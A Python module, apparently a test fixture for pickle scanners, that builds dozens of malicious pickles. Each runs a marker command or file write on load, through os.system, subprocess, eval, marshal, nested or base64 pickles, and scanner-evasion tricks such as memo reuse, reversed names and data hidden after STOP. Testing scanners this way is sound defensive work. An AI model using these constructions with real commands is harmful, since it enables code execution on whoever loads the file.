"""Pickles that do harm when they are loaded: every way by which an opcode can be made to run something.

Each takes a shell command, a Python statement or a path and is complete from the first opcode to STOP. The ways
are those known from the literature on pickles and from the scanners' own test suites; the bytes are made here.
"""

from __future__ import annotations

import base64
import marshal
from collections.abc import Callable
from pathlib import Path

STOP = b"."
EXTENSIONS = {(1 << 8) - 2: b"\x82\xfe", (1 << 16) - 2: b"\x83\xfe\xff", (1 << 31) - 2: b"\x84\xfe\xff\xff\x7f"}
"""Codes that a program may have given to ``posix.system``, and the opcodes that use them."""


def text(value: str | bytes) -> bytes:
    """BINUNICODE."""
    raw = value.encode() if isinstance(value, str) else value
    return b"X" + len(raw).to_bytes(4, "little") + raw


def raw(value: bytes) -> bytes:
    """BINBYTES."""
    return b"B" + len(value).to_bytes(4, "little") + value


def name(module: str, attribute: str) -> bytes:
    """GLOBAL."""
    return f"c{module}\n{attribute}\n".encode()


def stack_name(module: str, attribute: str) -> bytes:
    """STACK_GLOBAL."""
    return text(module) + text(attribute) + b"\x93"


def call(function: bytes, *arguments: bytes) -> bytes:
    """REDUCE."""
    return function + b"(" + b"".join(arguments) + b"tR"


def items(*values: bytes) -> bytes:
    """A list."""
    return b"](" + b"".join(values) + b"e"


SYSTEM = name("posix", "system")
Payload = Callable[[Path], bytes]


def touch(mark: Path) -> bytes:
    return text(f"touch {mark}")


def statement(mark: Path) -> bytes:
    return text(f"open({str(mark)!r}, 'w').close()")


def at(mark: Path) -> bytes:
    return text(str(mark))


def getattr_of(thing: bytes, attribute: str) -> bytes:
    return call(name("builtins", "getattr"), thing, text(attribute))


def shell(mark: Path) -> bytes:
    return items(text("/bin/sh"), text("-c"), touch(mark))


def lazy_calls(mark: Path) -> bytes:
    """``map(os.system, [command])``: nothing happens until somebody iterates."""
    return name("builtins", "map") + b"(" + SYSTEM + items(touch(mark)) + b"t\x81"


def obedient(method: str) -> bytes:
    """An object whose attribute ``method`` is ``os.system``, given to it by BUILD."""
    return call(name("argparse", "Namespace")) + b"}" + text(method) + SYSTEM + b"sb"


def code_of(mark: Path) -> bytes:
    return raw(marshal.dumps(compile(f"open({str(mark)!r}, 'w').close()", "x", "exec")))


def inner(mark: Path) -> bytes:
    """A whole pickle that does harm, to be hidden in another."""
    return call(SYSTEM, touch(mark)) + STOP


BY_OPCODE: dict[str, Payload] = {
    "REDUCE": lambda mark: call(SYSTEM, touch(mark)),
    "REDUCE, protocol 0": lambda mark: b"cos\nsystem\n(S'touch " + str(mark).encode() + b"'\ntR",
    "REDUCE, popped at once": lambda mark: call(SYSTEM, touch(mark)) + b"0}",
    "REDUCE, popped with a mark": lambda mark: b"(" + call(SYSTEM, touch(mark)) + b"1}",
    "REDUCE twice on one function": lambda mark: SYSTEM + b"2(" + touch(mark) + b"tR0(" + text("true") + b"tR",
    "INST": lambda mark: b"(" + touch(mark) + b"iposix\nsystem\n",
    "OBJ": lambda mark: b"(" + SYSTEM + touch(mark) + b"o",
    "NEWOBJ": lambda mark: name("builtins", "tuple") + lazy_calls(mark) + b"\x85\x81",
    "NEWOBJ_EX": lambda mark: name("builtins", "tuple") + lazy_calls(mark) + b"\x85}\x92",
    "BUILD, __setstate__": lambda mark: (
        call(name("functools", "partial"), name("builtins", "print")) + b"(" + SYSTEM + b"(" + touch(mark) + b"t}}tb)R"
    ),
    "BUILD, __setstate__ put into __dict__": lambda mark: obedient("__setstate__") + touch(mark) + b"b",
    "BUILD, slots": lambda mark: (
        call(name("argparse", "Namespace")) + b"N}" + text("__setstate__") + SYSTEM + b"s\x86b" + touch(mark) + b"b"
    ),
    "APPEND": lambda mark: obedient("append") + touch(mark) + b"a",
    "APPENDS": lambda mark: obedient("append") + b"(" + touch(mark) + b"e",
    "ADDITEMS": lambda mark: b"\x80\x04" + obedient("add") + b"(" + touch(mark) + b"\x90",
    "SETITEM of sys.modules": lambda mark: (
        name("sys", "modules")
        + text("harmless")
        + call(name("builtins", "__import__"), text("os"))
        + b"s0"
        # the name that is called afterwards says nothing of what it stands for
        + call(name("harmless", "system"), touch(mark))
    ),
    "STACK_GLOBAL": lambda mark: call(stack_name("posix", "system"), touch(mark)),
    "STACK_GLOBAL, dotted": lambda mark: b"\x80\x04" + call(stack_name("shutil", "os.system"), touch(mark)),
    "STACK_GLOBAL, names out of the memo": lambda mark: (
        text("system") + b"q\x020" + text("posix") + b"q\x010" + text("torch") + b"q\x000"
        b"h\x01h\x02\x93(" + touch(mark) + b"tR"
    ),
    "STACK_GLOBAL, a memo entry used again": lambda mark: (
        text("collections")
        + b"q\x000"
        + text("posix")
        + b"q\x000h\x00"
        + text("system")
        + b"\x93("
        + touch(mark)
        + b"tR"
    ),
    "STACK_GLOBAL, a name twice by DUP": lambda mark: (
        text("glob") + b"2\x93" + b"0" + call(stack_name("posix", "system"), touch(mark))
    ),
    "STACK_GLOBAL, a name that is called for": lambda mark: (
        call(name("builtins", "str"), raw(b"posix"), text("ascii")) + text("system") + b"\x93(" + touch(mark) + b"tR"
    ),
    "STACK_GLOBAL, a name read backwards": lambda mark: (
        b"X\x05\x00\x00\x00posix"
        + call(getattr_of(text(""), "join"), call(name("builtins", "reversed"), text("metsys")))
        + b"\x93("
        + touch(mark)
        + b"tR"
    ),
    "EXT1": lambda mark: EXTENSIONS[254] + b"(" + touch(mark) + b"tR",
    "EXT2": lambda mark: EXTENSIONS[65534] + b"(" + touch(mark) + b"tR",
    "EXT4": lambda mark: EXTENSIONS[2147483646] + b"(" + touch(mark) + b"tR",
    "BINPERSID": lambda mark: b"(" + text("storage") + call(SYSTEM, touch(mark)) + b"tQ",
    "PERSID behind a call": lambda mark: call(SYSTEM, touch(mark)) + b"0Pa name\n",
    "a dict's key": lambda mark: b"}" + call(SYSTEM, touch(mark)) + text("value") + b"s",
    "a dict's value": lambda mark: b"}" + text("state_dict") + call(SYSTEM, touch(mark)) + b"s",
    "a member of a set": lambda mark: b"\x80\x04\x8f(" + call(SYSTEM, touch(mark)) + b"\x90",
    "a member of a frozenset": lambda mark: b"\x80\x04(" + call(SYSTEM, touch(mark)) + b"\x91",
    "in a frame": lambda mark: b"\x80\x04\x95\x10\x00\x00\x00\x00\x00\x00\x00" + call(SYSTEM, touch(mark)),
    "arguments of a tensor": lambda mark: (
        b"}" + text("x") + call(name("builtins", "print"), call(SYSTEM, touch(mark))) + b"s"
    ),
}

BY_NAME: dict[str, Payload] = {
    "eval": lambda mark: call(name("builtins", "eval"), statement(mark)),
    "exec": lambda mark: call(name("builtins", "exec"), statement(mark)),
    "eval of Python 2": lambda mark: call(name("__builtin__", "eval"), statement(mark)),
    "compile": lambda mark: call(
        name("builtins", "exec"), call(name("builtins", "compile"), statement(mark), text("x"), text("exec"))
    ),
    "__import__": lambda mark: call(
        getattr_of(call(name("builtins", "__import__"), text("os")), "system"), touch(mark)
    ),
    "import_module": lambda mark: call(
        getattr_of(call(name("importlib", "import_module"), text("os")), "system"), touch(mark)
    ),
    "attrgetter": lambda mark: call(
        call(call(name("operator", "attrgetter"), text("system")), call(name("builtins", "__import__"), text("os"))),
        touch(mark),
    ),
    "methodcaller": lambda mark: call(
        call(name("operator", "methodcaller"), text("system"), touch(mark)),
        call(name("builtins", "__import__"), text("os")),
    ),
    "marshal and FunctionType": lambda mark: call(
        call(
            name("types", "FunctionType"),
            call(name("marshal", "loads"), code_of(mark)),
            call(name("builtins", "globals")),
        )
    ),
    "code.InteractiveInterpreter": lambda mark: call(
        getattr_of(call(name("code", "InteractiveInterpreter")), "runsource"), statement(mark)
    ),
    "cProfile.run": lambda mark: call(name("cProfile", "run"), statement(mark)),
    "timeit.timeit": lambda mark: call(
        name("timeit", "timeit"), statement(mark), text("pass"), name("time", "time"), b"K\x01"
    ),
    "os.popen": lambda mark: call(getattr_of(call(name("os", "popen"), touch(mark)), "read")),
    "os.posix_spawn": lambda mark: call(
        name("os", "waitpid"), call(name("posix", "posix_spawn"), text("/bin/sh"), shell(mark), b"}"), b"K\x00"
    ),
    "os.mkdir": lambda mark: call(name("posix", "mkdir"), at(mark)),
    "subprocess.run": lambda mark: call(name("subprocess", "run"), shell(mark)),
    "subprocess.Popen": lambda mark: call(getattr_of(call(name("subprocess", "Popen"), shell(mark)), "wait")),
    "multiprocessing": lambda mark: call(
        name("os", "waitpid"),
        call(name("multiprocessing.util", "spawnv_passfds"), raw(b"/bin/sh"), shell(mark), items()),
        b"K\x00",
    ),
    "pty.spawn": lambda mark: call(name("pty", "spawn"), shell(mark)),
    "pydoc.locate": lambda mark: call(call(name("pydoc", "locate"), text("os.system")), touch(mark)),
    "pkgutil.resolve_name": lambda mark: call(call(name("pkgutil", "resolve_name"), text("os:system")), touch(mark)),
    "ctypes": lambda mark: call(
        getattr_of(call(name("ctypes", "CDLL"), b"N"), "system"), raw(f"touch {mark}".encode())
    ),
    "io.FileIO": lambda mark: call(name("_io", "FileIO"), at(mark), text("w")),
    "open": lambda mark: call(name("io", "open"), at(mark), text("w")),
    "logging.FileHandler": lambda mark: call(name("logging", "FileHandler"), at(mark)),
    "pathlib": lambda mark: call(getattr_of(call(name("pathlib", "Path"), at(mark)), "touch")),
    "pathlib, dotted": lambda mark: (
        b"\x80\x04" + call(stack_name("pathlib", "Path.touch"), call(stack_name("pathlib", "Path"), at(mark)))
    ),
    "shutil.copy": lambda mark: call(name("shutil", "copyfile"), text("/dev/null"), at(mark)),
    "sqlite3": lambda mark: call(
        getattr_of(call(name("sqlite3", "connect"), at(mark)), "execute"), text("create table t(x)")
    ),
    "partial": lambda mark: call(call(name("functools", "partial"), SYSTEM, touch(mark))),
    "reduce": lambda mark: call(name("functools", "reduce"), name("builtins", "eval"), items(statement(mark), b"}")),
    "map and list": lambda mark: call(
        name("builtins", "list"), call(name("builtins", "map"), SYSTEM, items(touch(mark)))
    ),
    "any of map": lambda mark: call(name("builtins", "any"), call(name("builtins", "map"), SYSTEM, items(touch(mark)))),
    "pickle in a pickle": lambda mark: call(name("pickle", "loads"), raw(inner(mark))),
    "pickle in a pickle, of C": lambda mark: call(name("_pickle", "loads"), raw(inner(mark))),
    "pickle in a pickle in a pickle": lambda mark: call(
        name("pickle", "loads"), raw(call(name("pickle", "loads"), raw(inner(mark))) + STOP)
    ),
    "pickle out of text": lambda mark: call(
        name("pickle", "loads"), call(name("base64", "b64decode"), text(base64.b64encode(inner(mark))))
    ),
}

FURTHER: dict[str, Payload] = {
    "a second pickle behind STOP": lambda mark: b"}." + call(SYSTEM, touch(mark)),
}
"""What runs only when a program goes on reading where the first pickle ends, as torch does in a legacy file."""

ATTACKS = BY_OPCODE | BY_NAME


def written(attack: str, mark: Path) -> bytes:
    """The whole pickle of an attack."""
    body = (ATTACKS | FURTHER)[attack](mark)
    return (b"" if body.startswith(b"\x80") else b"\x80\x02") + body + STOP
